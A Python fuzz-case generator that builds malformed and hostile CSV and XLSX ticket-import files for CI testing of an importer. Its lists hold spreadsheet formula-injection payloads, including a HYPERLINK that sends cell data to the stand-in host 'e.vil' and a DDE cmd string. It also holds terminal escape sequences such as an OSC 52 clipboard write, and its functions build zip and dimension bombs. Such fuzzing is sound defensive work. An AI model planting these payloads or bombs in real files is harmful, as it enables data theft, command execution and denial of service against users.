"""Hostile and clumsy ticket import files, made deterministically from a case number.

Each case starts from a few good rows and applies one to three mutations of the kinds real
offices and attackers produce: other encodings (GBK, UTF-16, a UTF-8 header over GBK bytes),
oversized fields, control and bidi characters, look-alike digits, impossible dates and
numbers, DST gaps, cells beyond the header, broken quoting, truncation, formula text, and
XLSX files that are damaged, zip bombs, or dimension bombs. Used by the CI fuzz test
(tests/test_import_fuzz.py, a few hundred cases) and bench/fuzz_import.py (thousands).
"""

from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

HEADER = [
    "number",
    "created_at",
    "channel",
    "category",
    "priority",
    "tier",
    "customer_name",
    "customer_phone",
    "subject",
    "description",
    "status",
]
CHANNELS = ["phone", "email", "wechat", "app", "web", "counter"]
CATEGORIES = ["consult", "help", "suggestion", "repair"]
NAMES = ["张三", "李雷", "Alice Chen", "王芳", "Bob"]
SUBJECTS = ["路由器频繁掉线", "摄像头无法联网", "Printer jams", "增加中文说明书", "退款进度"]
NASTY_TEXT = [
    "\x1b]52;c;aGVsbG8=\x07",  # OSC 52: write the clipboard
    "\x1b[2J\x1b[H",  # clear the screen
    "ab\x08\x08cd",
    "\u202eevil\u202c",  # right-to-left override
    "\x00",
    "\x7f\x9b31m",
    '=HYPERLINK("http://e.vil/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "'=quoted",
    "\u2028line",
    "a\ud7ffb",
]
BAD_TIMES = [
    "9999-12-31T23:59:59",
    "0001-01-01",
    "-1",
    "1700000000",
    "5138-01-01T00:00:00",
    "２０２６-11-01 10:00",
    "٢٠٢٦-11-01 10:00",
    "2026-02-30 10:00",
    "1969-12-31 23:59",
    "2101-01-01 00:00",
    "2026-03-29 02:30",  # a DST gap in Europe/Berlin (the fuzz site's zone)
    "2026-11-01 10:00:00+25:00",
    "",
]
BAD_NUMBERS = [
    "SR-20261123-9223372036854775808",
    "SR-20261123-99999999999999999999",
    "SR-２０２６1123-0001",
    "SR-20261123-٠٠٠١",
    "SR-20261399-0001",
    "SR-00000000-0001",
    "SR-99991231-0001",
    "SR-1",
    "SR-20261123-0001\x00",
]
BAD_PHONES = ["１３８００００１１１１", "١٣٨٠٠٠٠١١١١", "1.38111E+10", "138\x1b0000", "+", "0" * 40]


@dataclass
class Case:
    """One generated file: its name, bytes, and the mutations applied (for reports)."""

    name: str
    data: bytes
    mutations: list[str] = field(default_factory=list)


def _good_row(rng: random.Random, n: int) -> list[str]:
    day = rng.randrange(1, 28)
    number = f"SR-202610{day:02d}-{rng.randrange(1, 99_999_999):08d}" if rng.random() < 0.4 else ""
    return [
        number,
        f"2026-10-{day:02d}T{rng.randrange(0, 24):02d}:{rng.randrange(0, 60):02d}:00+08:00",
        rng.choice(CHANNELS),
        rng.choice(CATEGORIES),
        rng.choice(["urgent", "important", "normal"]),
        rng.choice(["normal", "vip"]),
        rng.choice(NAMES),
        f"13{rng.randrange(0, 10**9):09d}" if rng.random() < 0.8 else "",
        f"{rng.choice(SUBJECTS)} #{n}",
        rng.choice(["", "详细描述", "line one\nline two", 'a, b; "quoted"']),
        rng.choice(["new", "assigned", "in_progress", "pending_customer"]),
    ]


Rows = list[list[str]]


def _set(rng: random.Random, rows: Rows, column: str, values: list[str]) -> str:
    row = rng.choice(rows)
    row[HEADER.index(column)] = rng.choice(values)
    return f"{column}={row[HEADER.index(column)]!r}"[:80]


def _row_mutations() -> list[Callable[[random.Random, list[str], Rows], str]]:
    def nasty(rng: random.Random, header: list[str], rows: Rows) -> str:
        column = rng.choice(["subject", "description", "customer_name"])
        row = rng.choice(rows)
        i = HEADER.index(column)
        row[i] = (
            rng.choice(NASTY_TEXT) + row[i]
            if rng.random() < 0.5
            else row[i] + rng.choice(NASTY_TEXT)
        )
        return f"nasty {column}"

    def huge(rng: random.Random, header: list[str], rows: Rows) -> str:
        size = rng.choice([200, 201, 32_768, 131_073, 1_100_000])
        column = rng.choice(["subject", "description", "customer_name"])
        rng.choice(rows)[HEADER.index(column)] = rng.choice("x界") * size
        return f"huge {column} {size}"

    def extra_cells(rng: random.Random, header: list[str], rows: Rows) -> str:
        rng.choice(rows).extend(["stray"] * rng.randrange(1, 4))
        return "cells beyond the header"

    def unnamed_column(rng: random.Random, header: list[str], rows: Rows) -> str:
        header.append("")
        for row in rows:
            row.append(rng.choice(["", "value"]))
        return "unnamed column"

    def history(rng: random.Random, header: list[str], rows: Rows) -> str:
        row = rng.choice(rows)
        row[HEADER.index("status")] = rng.choice(["resolved", "closed"])
        if rng.random() < 0.5:
            for name in ("resolved_at", "closed_at"):
                if name not in header:
                    header.append(name)
                    for r in rows:
                        r.extend([""] * (len(header) - len(r)))
                row[header.index(name)] = rng.choice(
                    ["2026-10-28T10:00:00+08:00", "2026-09-01T10:00:00+08:00", "9999-01-01"]
                )
        return "resolved/closed history"

    def same_phone(rng: random.Random, header: list[str], rows: Rows) -> str:
        phone = f"139{rng.randrange(0, 10**8):08d}"
        for row in rows[:2]:
            row[HEADER.index("customer_phone")] = phone
        rows[0][HEADER.index("customer_name")] = "王五"
        return "one phone, two names"

    def duplicate_number(rng: random.Random, header: list[str], rows: Rows) -> str:
        rows.append(list(rows[0]))
        rows[-1][0] = rows[0][0] = "SR-20261001-00000001"
        return "duplicate number"

    return [
        lambda rng, h, rows: _set(rng, rows, "created_at", BAD_TIMES),
        lambda rng, h, rows: _set(rng, rows, "number", BAD_NUMBERS),
        lambda rng, h, rows: _set(rng, rows, "customer_phone", BAD_PHONES),
        lambda rng, h, rows: _set(rng, rows, "channel", ["pigeon", "", "PHONE", "电话"]),
        lambda rng, h, rows: _set(rng, rows, "subject", ["", " ", "=1+1"]),
        lambda rng, h, rows: _set(rng, rows, "status", ["lost", "resolved", "closed"]),
        nasty,
        huge,
        extra_cells,
        unnamed_column,
        history,
        same_phone,
        duplicate_number,
    ]


def _csv_text(header: list[str], rows: Rows, rng: random.Random) -> str:
    import csv

    buffer = io.StringIO()
    delimiter = "\t" if rng.random() < 0.1 else ","
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=rng.choice(["\n", "\r\n"]))
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def _encode(text: str, rng: random.Random, mutations: list[str]) -> bytes:
    choice = rng.choice(["utf-8"] * 4 + ["utf-8-sig", "gb18030", "utf-16", "utf-16-le", "mixed"])
    mutations.append(f"encoding {choice}")
    if choice == "mixed":  # a UTF-8 header followed by GBK bytes
        head, _, body = text.partition("\n")
        return head.encode("utf-8") + b"\n" + body.encode("gb18030", errors="replace")
    return text.encode(choice, errors="replace")


def _byte_damage(data: bytes, rng: random.Random, mutations: list[str]) -> bytes:
    kind = rng.choice(["truncate", "flip", "insert", "quote"])
    mutations.append(f"bytes {kind}")
    if not data:
        return data
    at = rng.randrange(0, len(data))
    if kind == "truncate":
        return data[:at]
    if kind == "flip":
        return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]
    if kind == "insert":
        return data[:at] + bytes(rng.randrange(256) for _ in range(rng.randrange(1, 8))) + data[at:]
    return data[:at] + b'"' + data[at:]


def _xlsx_bytes(header: list[str], rows: Rows, rng: random.Random, mutations: list[str]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        # XML cannot hold these characters at all, so no spreadsheet file carries them.
        cells: list[object] = [_XML_ILLEGAL.sub("?", v) for v in row]
        phone = row[HEADER.index("customer_phone")]
        if rng.random() < 0.3 and phone.isascii() and phone.isdigit():
            cells[HEADER.index("customer_phone")] = rng.choice(
                [int(phone), float(phone), float(phone) / 10, 2161234567]
            )
            mutations.append("phone as a number")
        if rng.random() < 0.2:
            from datetime import datetime

            cells[1] = datetime(rng.choice([2026, 1900, 2200]), 10, 1, 10, 0)
            mutations.append("created_at as a date cell")
        sheet.append(cells)
    if rng.random() < 0.15:
        sheet["XFD1048576"] = "x"
        mutations.append("dimension bomb (cell at XFD1048576)")
    buffer = io.BytesIO()
    book.save(buffer)
    strip = rng.random() < 0.1
    if strip:
        mutations.append("no dimension tag")
    return _repack(buffer.getvalue(), strip_dimension=strip)


_SAVE_TIME = re.compile(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(</dcterms:)")


def _repack(data: bytes, *, strip_dimension: bool) -> bytes:
    """The workbook with fixed times (openpyxl stamps the save time), so a case number
    always gives the same bytes; optionally without the sheet's <dimension> tag."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if strip_dimension and info.filename.startswith("xl/worksheets/"):
                content = re.sub(rb"<dimension[^>]*/>", b"", content)
            if info.filename == "docProps/core.xml":
                content = _SAVE_TIME.sub(rb"\g<1>2026-01-01T00:00:00Z\g<2>", content)
            fixed = zipfile.ZipInfo(info.filename, date_time=(2026, 1, 1, 0, 0, 0))
            fixed.compress_type = zipfile.ZIP_DEFLATED
            target.writestr(fixed, content)
    return out.getvalue()


_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_BOMB: bytes | None = None


def zip_bomb() -> bytes:
    """A 'workbook' whose sheet unpacks to 64 MiB of blanks from about 64 KiB."""
    global _BOMB
    if _BOMB is None:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in [
                ("[Content_Types].xml", b"<Types/>"),
                ("xl/worksheets/sheet1.xml", b" " * (64 * 1024 * 1024)),
            ]:
                info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
                info.compress_type = zipfile.ZIP_DEFLATED
                archive.writestr(info, content)
        _BOMB = out.getvalue()
    return _BOMB


def make_case(seed: int, index: int) -> Case:
    """The case `index` of the campaign `seed`: same numbers, same file."""
    rng = random.Random(seed * 1_000_003 + index)
    header = list(HEADER)
    rows = [_good_row(rng, n) for n in range(rng.randrange(1, 6))]
    mutations: list[str] = []
    row_mutations = _row_mutations()
    for _ in range(rng.randrange(0, 4)):
        mutations.append(rng.choice(row_mutations)(rng, header, rows))
    if rng.random() < 0.1:  # header trouble
        kind = rng.choice(["drop subject", "duplicate channel", "unknown colour", "empty file"])
        mutations.append(kind)
        if kind == "drop subject":
            i = header.index("subject")
            header.pop(i)
            for row in rows:
                row.pop(i)
        elif kind == "duplicate channel":
            header[header.index("tier")] = "channel"
        elif kind == "unknown colour":
            header[header.index("tier")] = "colour"
        else:
            header, rows = [], []
    kind = rng.random()
    if kind < 0.22:
        data = _xlsx_bytes(header, rows, rng, mutations)
        if rng.random() < 0.2:
            data = _byte_damage(data, rng, mutations)
        return Case(f"case{index}.xlsx", data, mutations)
    if kind < 0.24:
        mutations.append("zip bomb")
        return Case(f"case{index}.xlsx", zip_bomb(), mutations)
    data = _encode(_csv_text(header, rows, rng) if header else "", rng, mutations)
    if rng.random() < 0.15:
        data = _byte_damage(data, rng, mutations)
    return Case(f"case{index}.csv", data, mutations)


def write_case(case: Case, folder: Path) -> Path:
    path = folder / case.name
    path.write_bytes(case.data)
    return path
